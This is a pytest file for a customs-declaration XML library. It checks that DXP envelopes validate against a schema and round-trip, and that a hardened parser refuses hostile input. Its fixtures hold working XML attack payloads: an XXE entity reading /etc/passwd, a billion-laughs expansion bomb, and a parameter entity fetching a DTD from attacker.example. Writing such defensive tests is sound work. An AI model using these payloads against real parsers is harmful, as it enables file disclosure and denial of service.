"""DXP envelopes validate against dxp-terminal.xsd and round-trip; hostile XML is refused."""

from __future__ import annotations

from datetime import datetime
from functools import cache

import pytest
from lxml import etree

from declarations import dxp, examples, safexml, signing, xsd
from declarations.ceb import export, import_, receipts
from declarations.errors import UnsafeXmlError


@cache
def signed_621() -> bytes:
    key, cert = signing.make_demo_key_and_certificate("dxp test")
    return import_.build_ceb621(examples.import_snapshot(2), signer=signing.Signer(key, cert))


def test_envelope_validates_and_round_trips(ceb_dir):
    message = signed_621()
    env = dxp.wrap(
        message,
        sender_id="DXPENT0000000002",
        created=datetime(2026, 3, 3, 9),
        biz_keys={"orderNo": "SP-IMP-0001"},
        schema_dir=ceb_dir,
    )
    root = etree.fromstring(env)
    assert xsd.load(ceb_dir / "dxp-terminal.xsd").validate(root)
    back = dxp.unwrap(env)
    assert back.data == message
    assert back.msg_type == "CEB621Message"
    assert back.receiver_ids == (dxp.IMPORT_RECEIVER,)
    assert back.cop_msg_id == etree.fromstring(message).get("guid")
    signing.verify(back.data)


def test_export_messages_go_to_the_export_receiver(ceb_dir):
    env = dxp.wrap(
        export.build_ceb603(examples.export_snapshot(1)),
        sender_id="DXPENT3",
        created=datetime(2026, 3, 3),
        schema_dir=ceb_dir,
    )
    assert dxp.unwrap(env).receiver_ids == (dxp.EXPORT_RECEIVER,)


XXE = b"""<?xml version="1.0"?>
<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>
<ceb:CEB622Message xmlns:ceb="http://www.chinaport.gov.cn/ceb"><ceb:InventoryReturn>
<ceb:copNo>&x;</ceb:copNo></ceb:InventoryReturn></ceb:CEB622Message>"""

LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<lolz>&lol9;</lolz>"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE r [<!ENTITY % ext SYSTEM "http://attacker.example/x.dtd"> %ext;]><r/>"""


@pytest.mark.parametrize("doc", [XXE, LAUGHS, PARAMETER_ENTITY], ids=["xxe", "laughs", "pe"])
def test_hostile_documents_are_refused(doc):
    with pytest.raises(UnsafeXmlError, match="DTD or entities"):
        safexml.parse(doc)
    with pytest.raises(UnsafeXmlError):
        receipts.parse(doc)
    with pytest.raises(UnsafeXmlError):
        signing.verify(doc)


def test_utf16_doctype_is_caught_after_parsing():
    doc = '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'
    with pytest.raises(UnsafeXmlError):
        safexml.parse(doc.encode("utf-16"))


def test_size_limit_and_malformed_input():
    with pytest.raises(UnsafeXmlError, match="exceeds"):
        safexml.parse(b"<a>" + b"x" * 2000 + b"</a>", max_bytes=1000)
    with pytest.raises(safexml.MalformedXmlError):
        safexml.parse(b"<a><b></a>")


def test_hostile_payload_inside_an_envelope_is_refused_when_read(ceb_dir):
    env = dxp.wrap(signed_621(), sender_id="X", created=datetime(2026, 3, 3))
    payload = dxp.unwrap(env).data.replace(b"<?xml version='1.0' encoding='UTF-8'?>", XXE[:90])
    with pytest.raises(UnsafeXmlError):
        safexml.parse(payload)
